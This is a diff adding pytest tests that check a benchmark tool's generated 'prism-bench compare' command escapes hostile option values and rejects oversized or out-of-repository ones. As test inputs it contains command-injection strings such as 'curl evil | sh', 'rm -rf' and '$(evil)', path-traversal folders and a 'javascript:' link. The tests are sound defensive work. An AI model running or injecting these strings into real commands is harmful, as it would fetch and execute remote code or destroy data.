@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 
 from prism_bench.errors import ResultsError, UsageError
 from prism_bench.report.comment import MARK, comment, read_comparison
-from prism_bench.report.comment.contents import CommentedCase, ComparedFile, ComparedFinding
+from prism_bench.report.comment.contents import CommentedCase, ComparedFile, ComparedFinding, ComparedOptions
 from prism_bench.report.comment.document import LONGEST
 from prism_bench.report.terminal.comparison import comparison_json
 
@@ -142,6 +142,33 @@ def test_the_command_chooses_commits_and_cases_alone():
     )
     line = comment(found).partition("```bash\n")[2].partition("\n")[0]
     assert "prism-bench compare --filter 'k[n=1]; curl evil | sh' -- '--catalogue=x; rm -rf' b" == line
+    line = comment(ComparedFile("a", "b", [], options=ComparedOptions("$(evil)\n```\n; x"))).partition("bash\n")[2]
+    assert line.startswith("prism-bench compare --catalogue '$(evil) ``` ; x' -- a b\n")
+
+
+def test_the_command_has_the_options_of_the_comparison(tmp_path):
+    path = tmp_path / "c.json"
+    table = {"catalogue": "gpu/my kernels", "labels": ["S1", "S2"], "metric": "hot_time"}
+    sides = {"a": "main", "b": "working tree", "cases": []}
+    path.write_text(json.dumps({**sides, "options": table}))
+    options = "--catalogue 'gpu/my kernels' --label S1 --label S2 --metric hot_time"
+    assert f"prism-bench compare {options} -- main\n" in comment(read_comparison(path))
+    path.write_text(json.dumps({**sides, "options": {"catalogue": None, "labels": [], "metric": None}}))
+    assert "prism-bench compare -- main\n" in comment(read_comparison(path))
+
+
+@pytest.mark.parametrize("folder", ["/tmp/evil", "../evil", "gpu/../../evil", "C:\\evil"])
+def test_no_command_names_a_folder_outside_the_repository(folder):
+    assert "Repeat:" not in comment(ComparedFile("a", "b", [], options=ComparedOptions(folder)))
+
+
+@pytest.mark.parametrize("table", [{"catalogue": "x" * 2_000}, {"labels": ["S0"] * 20}, {"metric": 1},
+                                   {"labels": ["--json"]}, {"metric": "-x"}])  # fmt: skip
+def test_options_of_a_strangers_file_are_bounded(tmp_path, table):
+    path = tmp_path / "c.json"
+    path.write_text(json.dumps({"a": "a", "b": "b", "cases": [], "options": table}))
+    with pytest.raises(ResultsError, match="options"):
+        read_comparison(path)
 
 
 @pytest.mark.parametrize("page", ["javascript:alert(1)", "https://a b", "https://a)[x](http://evil", "example.org"])
